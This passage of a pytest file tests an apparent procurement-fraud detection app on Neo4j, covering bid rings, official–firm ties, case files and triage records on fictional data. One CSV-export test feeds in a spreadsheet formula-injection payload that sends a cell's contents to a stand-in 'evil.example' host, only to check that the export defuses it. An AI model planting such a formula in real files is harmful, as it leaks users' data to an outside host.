        session.run("CREATE (t:Tender {id: 'TZ'}), (b:Bid {id: 'TZ-J', amount: 100.0})-[:FOR]->(t) "
                    "WITH t, b MATCH (f1:Firm {id: 'F1'}), (f2:Firm {id: 'F2'}), (f4:Firm {id: 'F4'}) "
                    "CREATE (f1)-[:SUBMITTED]->(b), (f2)-[:SUBMITTED]->(b), "
                    "(f4)-[:SUBMITTED]->(:Bid {id: 'TZ-4', amount: 120.0})-[:FOR]->(t)").consume()
    bids = app_queries.tender_bids(market_db, "TZ")
    assert len(bids) == 3 and not bids["is_member"].any()


def test_firms_flagged_count_each_firms_findings_by_kind(market_db):
    """F1: RING-1 and LB-1; F2: the same; F3: RING-1; F4 and F6: RING-2; F5: PAIR-1."""
    firms = app_queries.firms_flagged(market_db).set_index("firm_id")
    assert list(firms.index) == ["F1", "F2", "F3", "F5", "F4", "F6"]  # by strongest finding, then count
    assert firms.loc["F1", "by_kind"] == "linked bidders 1, ring 1" and firms.loc["F1", "top_score"] == 87.0
    assert firms.loc["F5", "by_kind"] == "pair 1" and firms.loc["F4", "top_score"] == 35.0


def test_firm_search_finds_any_firm_by_name_id_or_registration_number_in_any_case(market_db):
    """Any firm, not only those a finding names (F7: none does); a person's or a tender's name is no firm."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (:Firm {id: 'F7', name: 'Eta Quiet Works', reg_no: 'R007', source: 'test'})").consume()
    for typed in ("eta", "QUIET works", "f7", "F7", "r007", " R007 "):
        found = app_queries.firm_search(market_db, typed)
        assert list(found["firm_id"]) == ["F7"], typed
        assert (found.loc[0, "name"], found.loc[0, "reg_no"], found.loc[0, "findings"]) == (
            "Eta Quiet Works", "R007", 0)
    build = app_queries.firm_search(market_db, "build").set_index("firm_id")
    assert sorted(build.index) == ["F1", "F2", "F3"]
    assert build.loc["F1", "findings"] == 2 and build.loc["F3", "findings"] == 1  # RING-1 and LB-1; RING-1
    # near-misses: a person's name, a tender's title, an official's id, nothing typed
    for typed in ("Pat Owner", "road resurfacing", "O1", "  "):
        assert app_queries.firm_search(market_db, typed).empty, typed


def test_console_id_boxes_keep_an_example_that_exists_and_else_offer_an_id_that_does(market_db):
    from graph.cypher import named

    def boxes(query: str) -> dict[str, tuple[str, str]]:
        saved = named(query)
        return app_queries.console_ids(market_db, saved.parameters, app_queries.example_values(saved.description))

    assert boxes("analyst_ring_subgraph")["ring_id"][0] == '"RING-1"'  # RING-2 scores 35
    assert boxes("app_finding")["finding_id"] == ('"RING-1"', "the top ring by score (the query gives no example)")
    assert boxes("app_tender_bids")["tender_id"][0] == '"T1"'
    assert boxes("app_department_alerts")["department_id"] == (
        '"D2"', "the department that issued tender T1 (the query gives no example)")
    assert boxes("analyst_official_firm_inspections") == {
        "official_id": ('"O1"', "the query's own example, which is in this database"),
        "firm_id": ('"F1"', "the query's own example, which is in this database")}
    assert boxes("analyst_official_firm_ties") == {"official_id": ("null", "the query's own example")}
    assert boxes("analyst_same_tender_bid_traces") == {}  # no id to fill: no query run
    # the examples gone: the top pair's official and firm, together
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (n) WHERE n.id IN ['F1', 'O1'] SET n.id = n.id + 'X'").consume()
    assert boxes("analyst_official_firm_inspections") == {
        "official_id": ('"O1X"', "the official of the top official–firm pair PAIR-1 (its own example O1 is not "
                                 "in this database)"),
        "firm_id": ('"F5"', "the firm of the top official–firm pair PAIR-1 (its own example F1 is not in this "
                            "database)")}
    assert boxes("analyst_firm_identifiers")["firm_id"][0] == '"F1X"'  # a member of the top ring
    # near-miss: a database without findings or records offers nothing and keeps the example
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (n) DETACH DELETE n").consume()
    assert boxes("analyst_firm_identifiers") == {
        "firm_id": ('"F1"', "its own example F1 is not in this database, and the database holds nothing to "
                            "offer instead")}
    assert boxes("app_tender_bids")["tender_id"][0] == ""


def test_a_firms_supervisors_count_their_inspections_passes_and_approval_days(market_db):
    """F5: O1 passed all 6 of its inspections and decided its 3 approvals in 2 days; O2 passed 1 of 2."""
    rows = app_queries.firm_officials(market_db, "F5").to_dict("records")
    assert [(r["official_id"], r["official"], r["department"], r["inspections"], r["passed"], r["approvals"])
            for r in rows] == [("O1", "Olga Inspector", "Housing Bureau", 6, 6, 3),  # by name, not "D1"
                               ("O2", "Oscar Peer", "Housing Bureau", 2, 1, 0)]
    assert rows[0]["median_approval_days"] == 2.0 and pd.isna(rows[1]["median_approval_days"])
    f6 = app_queries.firm_officials(market_db, "F6").set_index("official_id")
    assert f6.loc["O1", "median_approval_days"] == 25.0 and f6.loc["O2", "median_approval_days"] == 10.0
    # near-misses: a result written as a Chinese pass counts, a decision dated before its application has no
    # days, and a firm nobody supervised has no rows
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (:Official {id: 'O2'})-[:CONDUCTED]->(i:Inspection {result: 'fail'})-[:OF]->(:Firm {id: 'F5'}) "
                    "SET i.result = ' 合格'").consume()
        session.run("MATCH (:Firm {id: 'F5'})-[:APPLIED]->(a:Approval) SET a.decided_at = a.applied_at - duration('P1D')"
                    ).consume()
    rows = app_queries.firm_officials(market_db, "F5").set_index("official_id")
    assert rows.loc["O2", "passed"] == 2 and pd.isna(rows.loc["O1", "median_approval_days"])
    assert app_queries.firm_officials(market_db, "F1").empty


def test_a_firms_findings_activity_and_ties(market_db):
    """F1 bid in T1–T6 and won T1 and T4; T2 (TR-1) and T3 (RF-1) are flagged tenders."""
    findings = app_queries.firm_findings(market_db, "F1")
    assert list(zip(findings["finding_id"], findings["how"], strict=True)) == [
        ("RING-1", "member"), ("TR-1", "bid in T2"), ("RF-1", "bid in T3"), ("LB-1", "named")]
    assert list(app_queries.firm_findings(market_db, "F5")["finding_id"]) == ["PAIR-1"]
    with market_db.driver.session(database=market_db.settings.database) as session:  # a second bid in T1
        session.run("MATCH (f:Firm {id: 'F1'}), (t:Tender {id: 'T1'}) "
                    "CREATE (f)-[:SUBMITTED]->(:Bid {id: 'B1-F1-2', amount: 99000.0})-[:FOR]->(t)").consume()
    activity = app_queries.firm_activity(market_db, "F1")
    assert list(zip(activity["year"], activity["category"], activity["tenders"], activity["bids"],
                    activity["won"], strict=True)) == [(2024, "roads", 6, 7, 2)]
    assert activity.loc[0, "amount_awarded"] == pytest.approx(101000.0 + 104000.0)  # the awards, not the bids
    assert activity.loc[0, "won_without_amount"] == 0
    with market_db.driver.session(database=market_db.settings.database) as session:  # an award without an amount
        session.run("MATCH (:Tender {id: 'T4'})-[a:AWARDED_TO]->(:Firm {id: 'F1'}) REMOVE a.amount").consume()
    activity = app_queries.firm_activity(market_db, "F1")
    assert (activity.loc[0, "amount_awarded"], activity.loc[0, "won_without_amount"]) == (101000.0, 1)
    assert activity.loc[0, "currency"] == "CNY"  # the tenders', beside the amount (it was a bare number)
    with market_db.driver.session(database=market_db.settings.database) as session:  # no currency recorded: none said
        session.run("MATCH (t:Tender) REMOVE t.currency").consume()
    assert "currency" not in app_queries.firm_activity(market_db, "F1")
    ties = app_queries.firm_identifiers(market_db, "F1").set_index("tie")
    assert list(ties.loc["phone", "shared_with"]) == ["F2"]  # in words, as the Firms page shows it
    assert list(ties.loc["shareholder 50 %", "shared_with"]) == ["F3"]  # with the share recorded
    assert list(ties.loc["shareholder 50 %", "officials"]) == []  # no official declared P1 a relative
    # F5's shareholder is official O1's sister: the firm's page says so (it gave the person's id alone)
    f5 = app_queries.firm_identifiers(market_db, "F5").set_index("via")
    assert [list(v) for v in f5.loc[f5.index.str.startswith("P2"), "officials"]] == [["O1 Olga Inspector (sibling)"]]
    # P1 also directs F3 and represents F1: one row for P1, F3 listed once
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (p:Person {id: 'P1'}), (f3:Firm {id: 'F3'}), (f1:Firm {id: 'F1'}) "
                    "CREATE (p)-[:DIRECTOR_OF]->(f3), (p)-[:LEGAL_REP_OF]->(f1)").consume()
    people = app_queries.firm_identifiers(market_db, "F1").query("via.str.startswith('P1')", engine="python")
    assert [(r["tie"], list(r["shared_with"]), r["other_firms"]) for r in people.to_dict("records")] == [
        ("legal representative + shareholder 50 %", ["F3"], 1)]
    # a finding the latest run no longer produced is left out
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (a:Alert {id: 'LB-1'}) SET a.active = false").consume()
    assert "LB-1" not in set(app_queries.firm_findings(market_db, "F1")["finding_id"])
    assert app_queries.firms_flagged(market_db).set_index("firm_id").loc["F1", "by_kind"] == "ring 1"


def test_a_case_file_holds_the_finding_its_evidence_subjects_and_history(market_db):
    app_queries.record_triage(market_db, "PAIR-1", "Ana", status="in_progress", comment="Ask for the files")
    record = app_queries.case_file(market_db, "PAIR-1")
    assert record is not None
    assert (record["finding_id"], record["kind"], record["score"], record["status"]) == \
        ("PAIR-1", "pair", 78.0, "in_progress")
    assert record["explanation"].startswith("O1 inspected F5 6 times")
    assert record["evidence"]["inspections"]["expected"] == 2.5  # parsed, not a JSON string
    assert {(s["label"], s["id"]) for s in record["subjects"]} == {("Official", "O1"), ("Firm", "F5")}
    assert [(e["user"], e["action"], e["comment"]) for e in record["case_events"]] == [
        ("Ana", "status", None), ("Ana", "comment", "Ask for the files")]
    json.dumps(record)  # ready to download as it is
    assert app_queries.case_file(market_db, "NO-SUCH") is None


def test_a_case_file_lists_the_ids_of_the_records_behind_the_finding(market_db):
    """A case file named neither a ring's tenders nor the inspections, approvals and committees behind a pair,
    so an investigator could not follow it to the records (an app review)."""
    ring = app_queries.case_file(market_db, "RING-1")
    assert ring is not None
    assert ring["records"] == {"tenders": {"ids": ["T1", "T2", "T3", "T4", "T5", "T6"], "total": 6}}
    assert app_queries.case_file(market_db, "LB-1")["records"]["tenders"]["total"] == 6
    # O1 evaluated T1, where F5 bid, and T2, where it did not; O2's inspections of F5 are not O1's
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("""
            MATCH (o1:Official {id: 'O1'}), (f5:Firm {id: 'F5'}), (t1:Tender {id: 'T1'}), (t2:Tender {id: 'T2'})
            CREATE (o1)-[:EVALUATED]->(t1), (o1)-[:EVALUATED]->(t2),
                   (f5)-[:SUBMITTED]->(:Bid {id: 'B1-F5', amount: 120000.0})-[:FOR]->(t1)""").consume()
    pair = app_queries.case_file(market_db, "PAIR-1")["records"]
    assert pair == {"inspections": {"ids": ["I6", "I1", "I2", "I3", "I4", "I5"], "total": 6},  # by date
                    "approvals": {"ids": ["A1", "A2", "A3"], "total": 3},
                    "evaluations": {"ids": ["T1"], "total": 1}}
    # long lists are cut, with their whole count; a tender finding's tender is its subject, not a record of it
    assert app_queries.case_records(market_db, "RING-1", cap=2) == {"tenders": {"ids": ["T1", "T2"], "total": 6}}
    assert app_queries.case_file(market_db, "TR-1")["records"] == {}
    json.dumps(pair)


def test_triage_refuses_an_assignee_or_a_comment_too_long_to_keep(market_db):
    """A 20,000,000-character comment was stored and came back with every view of its case."""
    for too_long in ({"assignee": "A" * (app_queries.MAX_ASSIGNEE_CHARS + 1)},
                     {"comment": "x" * 20_000_000},
                     {"comment": "x" * (app_queries.MAX_COMMENT_BYTES + 1), "status": "confirmed"},
                     {"comment": "报" * (app_queries.MAX_COMMENT_BYTES // 3 + 1)}):  # bytes, not characters
        with pytest.raises(ValueError, match="Nothing was saved"):
            app_queries.record_triage(market_db, "PAIR-1", "Ana", **too_long)
    assert app_queries.case_events(market_db, "PAIR-1").empty  # nothing of any of them, not even the status
    # near-misses: the longest of each is kept, and whatever the comment box takes fits
    assert app_queries.record_triage(market_db, "PAIR-1", "Ana", assignee="A" * app_queries.MAX_ASSIGNEE_CHARS,
                                     comment=" " + "x" * app_queries.MAX_COMMENT_BYTES + "\n") == 2
    assert app_queries.record_triage(market_db, "PAIR-1", "Ana",
                                     comment="\U0001F600" * app_queries.MAX_COMMENT_CHARS) == 1


def test_related_findings_are_the_active_ones_naming_the_same_firms_officials_or_tenders(market_db):
    """A ring, the linked bidders among its members and the risky tenders it bid in were separate cases with
    nothing pointing from one to the other (an investigator's review)."""
    related = app_queries.related_findings(market_db, "RING-1").set_index("finding_id")
    # LB-1 shares F1, F2 and the six tenders; TR-1 tender T2 and RF-1 tender T3; RING-2 (F4, an outsider who bid
    # beside the ring, and F6), PAIR-1, OFF-1 and the buyer D2's flags name none of its firms or tenders
    assert list(related.index) == ["LB-1", "TR-1", "RF-1"]
    assert related.loc["LB-1", "firms"] == [{"id": "F1", "name": "Alpha Build"}, {"id": "F2", "name": "Beta Build"}]
    assert (related.loc["LB-1", "tenders"], related.loc["TR-1", "tenders"], related.loc["TR-1", "firms"]) == (6, 1, [])
    assert list(app_queries.related_findings(market_db, "PAIR-1")["finding_id"]) == ["OFF-1"]  # official O1
    assert [o["id"] for o in app_queries.related_findings(market_db, "PAIR-1")["officials"].iloc[0]] == ["O1"]
    assert sorted(app_queries.related_findings(market_db, "TR-1")["finding_id"]) == ["LB-1", "RING-1"]
    assert app_queries.related_findings(market_db, "RING-2").empty
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (f:Alert {id: 'LB-1'}) SET f.active = false").consume()
    assert list(app_queries.related_findings(market_db, "RING-1")["finding_id"]) == ["TR-1", "RF-1"]  # no longer found
    assert list(app_queries.related_findings(market_db, "RING-1", limit=1)["finding_id"]) == ["TR-1"]


def test_a_status_given_to_related_findings_is_written_to_each_or_to_none(market_db):
    app_queries.record_triage(market_db, "RF-1", "Ana", status="confirmed")
    shown = {"TR-1": "open", "RF-1": "confirmed", "LB-1": "open"}
    app_queries.record_triage(market_db, "LB-1", "Li", status="dismissed", comment="emergency procurement")
    done = app_queries.record_status_of_related(market_db, shown, "Bo", "confirmed", "RING-1", " one cartel ")
    # TR-1 changed; RF-1 had the status already; LB-1 was dismissed by Li after the form showed it open
    assert (done.changed, done.already, done.moved, done.events) == (["TR-1"], ["RF-1"], {"LB-1": "dismissed"}, 3)
    events = app_queries.case_events(market_db, "TR-1")
    assert list(events["action"]) == ["status", "comment"] and set(events["user"]) == {"Bo"}
    assert events["comment"].iloc[-1] == "Status set together with RING-1: one cartel"
    assert app_queries.finding(market_db, "TR-1")["status"] == "confirmed"
    assert list(app_queries.case_events(market_db, "RF-1")["action"]) == ["status"]  # Ana's only: nothing repeated
    assert app_queries.finding(market_db, "LB-1")["status"] == "dismissed"  # Li's decision stands
    # the finding it was set from says so in its own history (and so in its case report)
    [ring] = app_queries.case_events(market_db, "RING-1").itertuples()
    assert (ring.action, ring.user, ring.comment) == ("comment", "Bo",
                                                      "Set TR-1 to confirmed together with this finding: one cartel")
    assert app_queries.finding(market_db, "RING-1")["status"] == "open"  # its own status is its own form's
    again = app_queries.record_status_of_related(market_db, {"TR-1": "confirmed"}, "Bo", "dismissed", "RING-1")
    assert again.changed == ["TR-1"] and app_queries.case_events(market_db, "TR-1")["comment"].iloc[-1] == \
        "Status set together with RING-1."
    with pytest.raises(GraphError, match="GONE"):  # one unknown: none of them is written
        app_queries.record_status_of_related(market_db, {"RF-1": "confirmed", "GONE": "open"}, "Bo", "open", "RING-1")
    with pytest.raises(ValueError, match="unknown status"):
        app_queries.record_status_of_related(market_db, {"RF-1": "confirmed"}, "Bo", "closed", "RING-1")
    assert list(app_queries.case_events(market_db, "RF-1")["action"]) == ["status"]
    nothing = app_queries.record_status_of_related(market_db, {}, "Bo", "confirmed", "RING-1")
    assert (nothing.changed, nothing.events) == ([], 0)


def test_cases_read_inactive_findings_only_when_asked(market_db):
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (f {id: 'RING-2'}) SET f.active = false").consume()
    assert "RING-2" not in set(app_queries.cases(market_db)["finding_id"])
    everything = app_queries.cases(market_db, include_inactive=True).set_index("finding_id")
    assert not everything.loc["RING-2", "active"] and everything.loc["RING-1", "active"]


def test_ring_bids_list_each_bid_once_when_a_tender_has_several_winners(market_db):
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (t:Tender {id: 'T2'}), (f:Firm {id: 'F1'}) CREATE (t)-[:AWARDED_TO]->(f)").consume()
    bids = app_queries.group_bids(market_db, "RING-1")
    assert len(bids) == 20 and not bids.duplicated(["tender_id", "firm_id"]).any()  # one row per bid
    t2 = bids[bids["tender_id"] == "T2"].set_index("firm_id")
    assert list(t2.loc[["F2", "F1", "F3"], "is_winner"]) == [True, True, False]


def test_ring_graph_draws_only_persons_identifiers_and_bid_traces_two_members_share(market_db):
    """A legal representative who is also a shareholder of one member holds two roles, not a tie between
    members; a person in two members is drawn with both edges."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (f:Firm {id: 'F1'}) CREATE (p:Person {id: 'P77', name: 'Solo Owner'}) "
                    "CREATE (p)-[:LEGAL_REP_OF]->(f), (p)-[:SHAREHOLDER_OF {share: 0.6}]->(f) "
                    "CREATE (:Phone {value: '13900000077'})<-[:HAS_PHONE]-(f)").consume()
    graph = app_queries.group_graph(market_db, "RING-1")
    names = {node.caption for node in graph.nodes.values()}
    assert "Solo Owner" not in names and "13900000077" not in names
    assert {"Pat Owner", "13800000001", "1 Ring Road"} <= names
    [owner] = [node.id for node in graph.nodes.values() if node.caption == "Pat Owner"]
    assert len({edge.target for edge in graph.edges.values() if edge.source == owner}) >= 2
    # the IP two members' bids were sent from is drawn, as the ring's sentence counts it; a document only
    # one member's bid used is not
    assert "10.0.0.7" in names and "d0c3" not in names
    [ip] = [node.id for node in graph.nodes.values() if node.caption == "10.0.0.7"]
    senders = {graph.nodes[edge.source].caption for edge in graph.edges.values() if edge.target == ip}
    assert senders == {"Alpha Build", "Beta Build"}
    assert {edge.type for edge in graph.edges.values() if edge.target == ip} == {"BIDS_SENT_FROM"}
    # at most trace_cap such values: documents reused in hundreds of tenders must not crowd the tenders out
    capped = market_db.read("app_group_graph", finding_id="RING-1", tender_cap=60, trace_cap=0)
    assert not [row for row in capped if row["b_label"] in ("IP", "Document")]
    assert {row["b_label"] for row in capped} >= {"Tender", "Phone", "Address"}


def test_a_linked_bidders_group_is_drawn_with_its_tenders_and_only_what_its_own_firms_share(market_db):
    """LB-1 = F1 and F2, who share a phone and met in T1–T6 (an app review: linked bidders had no drill-down).
    F3 bid in those tenders and shares an address with F2 and an owner with F1, but is no member of the group."""
    graph = app_queries.group_graph(market_db, "LB-1")
    firms = {node.caption: node for node in graph.nodes.values() if node.label == "Firm"}
    assert set(firms) == {"Alpha Build", "Beta Build"}
    names = {node.caption for node in graph.nodes.values()}
    assert "13800000001" in names and "1 Ring Road" not in names and "Pat Owner" not in names
    assert {node.props["id"] for node in graph.nodes.values() if node.label == "Tender"} == {f"T{i}" for i in range(1, 7)}
    won = {graph.nodes[e.source].caption for e in graph.edges.values() if e.type == "WON"}
    assert won == {"Alpha Build", "Beta Build"} and firms["Alpha Build"].props["tenders_won_here"] == 2
    bids = app_queries.group_bids(market_db, "LB-1")
    members = bids.drop_duplicates("firm_id").set_index("firm_id")["is_member"]
    assert members.to_dict() == {"F1": True, "F2": True, "F3": False, "F4": False}
    assert set(bids["tender_id"]) == {f"T{i}" for i in range(1, 7)}
    assert app_queries.finding(market_db, "LB-1")["tenders"] == 6


def test_a_decision_dated_before_its_application_has_no_days_on_the_pages_either(market_db):
    """The profile detector reads such a decision (a data error) as of unknown days; the Officials and
    Closeness pages averaged its negative days in (a review)."""
    before = app_queries.official_workload(market_db).set_index("official_id").loc["O1", "mean_approval_days"]
    times = app_queries.pair_approval_times(market_db, "O1", "F5")
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (o:Official {id: 'O1'}), (f:Firm {id: 'F5'}) "
                    "CREATE (o)-[:DECIDED]->(:Approval {id: 'A-back', kind: 'permit', applied_at: date('2024-03-10'), "
                    "decided_at: date('2024-03-04'), decision: 'granted', statutory_days: 20})<-[:APPLIED]-(f)").consume()
    record = app_queries.official_workload(market_db).set_index("official_id").loc["O1"]
    assert record["mean_approval_days"] == before and record["overdue"] >= 0
    pd.testing.assert_frame_equal(app_queries.pair_approval_times(market_db, "O1", "F5"), times)


def test_pending_approvals_count_overdue_to_the_datas_last_day_and_activity_keeps_to_the_period(market_db):
    """A pending approval is overdue when the data's last day (official_profile.as_of_date) is past its
    deadline, not the machine's today: an extract read a year later would make every pending one late."""
    from datetime import date, timedelta

    first, last = app_queries.activity_range(market_db)
    applied = last - timedelta(days=5)  # 20 statutory days: within them on the data's last day
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (o:Official {id: 'O2'}), (f:Firm {id: 'F6'}) "
                    "CREATE (o)-[:DECIDED]->(:Approval {id: 'A-pending', kind: 'permit', applied_at: date($day), "
                    "statutory_days: 20})<-[:APPLIED]-(f)", day=applied.isoformat()).consume()
    assert app_queries.activity_range(market_db)[1] == last
    record = app_queries.official_workload(market_db).set_index("official_id")
    later = app_queries.official_workload(market_db, as_of=last + timedelta(days=30)).set_index("official_id")
    assert later.loc["O2", "overdue"] == record.loc["O2", "overdue"] + 1
    assert later.loc["O2", "approvals"] == record.loc["O2", "approvals"] + 1  # pending past its deadline is work
    activity = app_queries.official_activity(market_db, "O2").set_index("activity_id")
    assert activity.loc["A-pending", "days"] == 5
    # the decision's date, which the closeness sentence dates an approval by; none while pending
    assert pd.isna(activity.loc["A-pending", "decided"])
    decided = activity[(activity["activity"] == "approval") & activity["decided"].notna()]
    assert len(decided) and ((pd.to_datetime(decided["decided"]) - decided["date"]).dt.days == decided["days"]).all()
    # the period: only what happened in it, by the same dates the workload counts by
    whole = app_queries.official_activity(market_db, "O1")
    middle = whole["date"].sort_values().iloc[len(whole) // 2].date()
    part = app_queries.official_activity(market_db, "O1", date_from=first, date_to=middle)
    assert 0 < len(part) < len(whole) and part["date"].max().date() <= middle
    assert len(part) == int((whole["date"].dt.date <= middle).sum())
    assert date(1999, 1, 1) < first


def test_times_show_in_the_servers_zone_with_its_name(shanghai_time):
    # the store keeps UTC: a nightly run at 02:15 in the city is shown at 02:15, not the day before's 18:15
    assert app_queries.to_second("2024-07-01T18:15:00Z") == "2024-07-02 02:15:00 CST"
    assert app_queries.to_second("2024-07-01T18:15:07.123456789Z") == "2024-07-02 02:15:07 CST"  # Neo4j's toString
    assert app_queries.to_second("2024-07-01T18:15:07+00:00", minutes_only=True) == "2024-07-02 02:15 CST"
    assert app_queries.to_second("2024-07-01T18:15:07") == "2024-07-01 18:15:07"  # no offset: as written
    assert [app_queries.to_second(v) for v in ("now", None, "")] == ["now", None, ""]


def test_a_consortium_bid_shares_its_ip_with_no_one_and_two_firms_bids_do():
    bids = pd.DataFrame({"bid_id": ["B1", "B1", "B2", "B3", "B4"], "firm_id": ["F1", "F2", "F3", "F4", "F5"],
                         "ip": ["1.1.1.1", "1.1.1.1", "2.2.2.2", "2.2.2.2", None],
                         "document_hash": [None, None, None, None, "d1"]})
    assert list(app_queries.shared_traces(bids)) == [False, False, True, True, False]


def test_an_awarded_firms_invalid_bid_won_nothing_and_names_shared_by_two_firms_stay_apart():
    bids = pd.DataFrame({
        "tender_id": ["T1", "T1", "T1"], "firm_id": ["F1", "F1", "F2"], "firm_name": ["Same Co", "Same Co", "Same Co"],
        "amount": [90.0, 100.0, 110.0], "disqualified": [False, False, False], "lot": [None, None, None],
        "bid_awarded": [False, False, False], "winner_firm_ids": [["F1"], ["F1"], ["F1"]],
        "status": ["invited", "valid", "valid"], "published_at": [pd.Timestamp("2024-01-01")] * 3})
    spread = app_queries.bid_spreads(app_queries.distinct_names(bids))
    assert list(spread["is_winner"]) == [False, True, False]  # the invitation at 90 is no winning bid
    assert list(spread["winning_amount"]) == [100.0, 100.0, 100.0]
    assert list(spread["firm_name"]) == ["Same Co (F1)", "Same Co (F1)", "Same Co (F2)"]
    assert list(app_queries.distinct_names(bids.assign(firm_name=["A", "A", "B"]))["firm_name"]) == ["A", "A", "B"]


def test_an_official_evaluating_a_tender_of_eight_bidders_evaluated_one_tender():
    from views.charts import monthly_activity_figure

    day = pd.Timestamp("2024-03-05")
    activity = pd.DataFrame({"date": [day] * 9, "activity": ["evaluation"] * 8 + ["inspection"],
                             "activity_id": ["T1"] * 8 + ["I1"], "firm_id": [f"F{i}" for i in range(9)]})
    counts = {trace.name: list(trace.y) for trace in monthly_activity_figure(activity).data}
    assert counts == {"evaluation": [1], "inspection": [1]}


def test_the_events_of_one_save_keep_the_order_they_were_written_in(market_db):
    """A save writes its status, assignment and comment in one transaction, often within one
    millisecond: the history listed them by time, then by random id."""
    for n in range(15):
        app_queries.record_triage(market_db, "RING-1", "Ana", status=("confirmed", "in_progress")[n % 2],
                                  assignee=f"Li {n}", comment=f"note {n}")
    history = app_queries.case_events(market_db, "RING-1")
    assert list(history["action"]) == ["status", "assign", "comment"] * 15
    assert list(history["comment"].dropna()) == [f"note {n}" for n in range(15)]


def test_a_string_parameter_of_a_saved_query_stays_text_when_it_reads_as_a_number():
    """analyst_firm_identifiers with $firm_id 911101087263757431 (an unified social credit code
    style id) went in as an integer and matched nothing; its header says the parameter is a string."""
    declared = app_queries.declared_types(named("analyst_firm_identifiers").description)
    assert declared == {"firm_id": "string"}
    assert app_queries.console_value(" 911101087263757431 ", declared["firm_id"]) == "911101087263757431"
    assert app_queries.console_value("true", "string") == "true"
    assert app_queries.console_value('"F1"', "string") == "F1"
    # near-misses: a declared int, and an undeclared value, are still read as JSON
    assert app_queries.console_value("25", declared.get("limit", "int")) == 25
    assert app_queries.console_value("911101087263757431") == 911101087263757431
    assert app_queries.declared_types(named("analyst_top_winners_by_category").description) == {
        "category": "string", "limit": "int"}


def test_a_parameter_named_as_an_id_is_text_unless_its_query_declares_otherwise():
    """app_official_assignments' $official_id, typed 7, went in as the integer 7 and matched nothing."""
    assert [app_queries.parameter_type(n) for n in ("official_id", "id", "key", "ring_id", "firm_ids", "limit",
                                                    "idle", "kind")] == ["string", "string", "string", "string",
                                                                         None, None, None, None]
    assert app_queries.parameter_type("official_id", {"official_id": "int"}) == "int"
    assert app_queries.console_value("7", app_queries.parameter_type("official_id")) == "7"
    assert app_queries.console_value("7", app_queries.parameter_type("limit")) == 7


@pytest.mark.neo4j
def test_warm_up_runs_every_page_query_and_each_drill_down_once(market_db):
    """After a restart an app page's first visit waited 1–3 s for the server to plan its queries; the
    server's start (and the app's own start) run each one once: the pages' and, for the first ring,
    tender, pair, firm and case the lists give, every drill-down."""
    ran: list[str] = []

    class Recording:  # the real database, noting each named query run
        def __getattr__(self, name: str):  # type: ignore[no-untyped-def]
            method = getattr(market_db, name)
            if name not in ("read", "read_frame"):
                return method

            def recorded(query: str, *args, **kwargs):  # type: ignore[no-untyped-def]
                ran.append(query)
                return method(query, *args, **kwargs)
            return recorded

    count = app_queries.warm_up(Recording())
    drill_downs = {"app_group_graph", "app_group_bids", "app_group_tenders", "app_ring_predecessors", "app_tender_bids", "app_tender", "app_pair_inspection_rates",
                   "app_pair_approval_times", "app_pair_committee_tenders", "app_pair_ties", "app_official_activity",
                   "app_official_assignments", "app_firm_findings", "app_firm_activity", "app_firm_officials",
                   "app_firm_search", "app_finding",
                   "app_case_events", "app_case_records", "app_console_ids", "app_related_findings"}
    pages = {"app_label_counts", "app_rings", "app_tenders", "app_pairs", "app_cases", "app_firms_flagged",
             "app_official_workload", "app_activity_range", "app_departments", "app_top_findings"}
    assert drill_downs | pages <= set(ran), sorted((drill_downs | pages) - set(ran))
    assert count == 40  # every call succeeded: 12 pages, 5 lists, 22 drill-downs of the ids they gave, the console's ids


def test_console_csv_writes_a_formula_in_a_name_as_text_and_keeps_numbers():
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    table = pd.DataFrame({"name": [hostile, "Alpha Build", None], "phone": ["+86 10 1234", "13800000001", "x"],
                          "balance": [-5, 3, 7], "=cmd": [1.5, -2.0, None]})
    read = pd.read_csv(io.BytesIO(app_queries.console_csv(table)), keep_default_na=False)
    assert list(read.columns) == ["name", "phone", "balance", "'=cmd"]
    assert list(read["name"]) == ["'" + hostile, "Alpha Build", ""]
    assert list(read["phone"]) == ["'+86 10 1234", "13800000001", "x"]
    assert list(read["balance"]) == [-5, 3, 7]  # a number column is left as numbers
    assert list(read["'=cmd"]) == ["1.5", "-2.0", ""]  # as written: no quote before the minus


def test_graph_captions_and_properties_show_money_with_separators_and_a_recorded_currency():
    """A tender's budget showed as 112200.0 and an award edge said nothing of its amount (an app review)."""
    from views.graph_view import edge_caption

    graph = GraphElements()
    graph.add_node("t", "Tender", {"id": "T1", "title": "Road", "budget": 112200.0, "currency": "CNY"})
    graph.add_node("b", "Bid", {"id": "B1", "amount": 101000.5})
    graph.add_node("p", "Phone", {"value": "13800000001"})
    graph.add_node("f", "Firm", {"id": "F1", "name": "Alpha"})
    graph.add_edge("t", "AWARDED_TO", "f", {"amount": 101000.0})
    elements = to_elements(graph)
    data = {n["data"]["type"]: n["data"] for n in elements["nodes"]}
    assert data["Tender"]["budget"] == "112,200 CNY"
    assert data["Bid"]["amount"] == "101,000.50"  # the bid records no currency: none is assumed
    captions = {n["data"]["type"]: n["data"]["name"] for n in elements["nodes"]}
    assert (captions["Bid"], captions["Tender"]) == ("bid 101,000.50", "Road")  # a bid by its price, not its id
    assert app_queries.caption_of("Bid", {"id": "B2", "amount": 90000.0, "currency": "CNY"}) == "bid 90,000 CNY"
    assert app_queries.caption_of("Bid", {"id": "B3"}) == "B3"  # no amount: its id
    assert data["Phone"]["value"] == "13800000001"  # an identifier's value is no sum of money
    [edge] = elements["edges"]
    assert edge["data"]["caption"] == "awarded to · 101,000" and edge["data"]["amount"] == "101,000"
    assert edge_caption("AWARDED_TO", {}) == "awarded to"


def test_a_components_thresholds_read_as_words_and_tender_risks_raises_are_not_points():
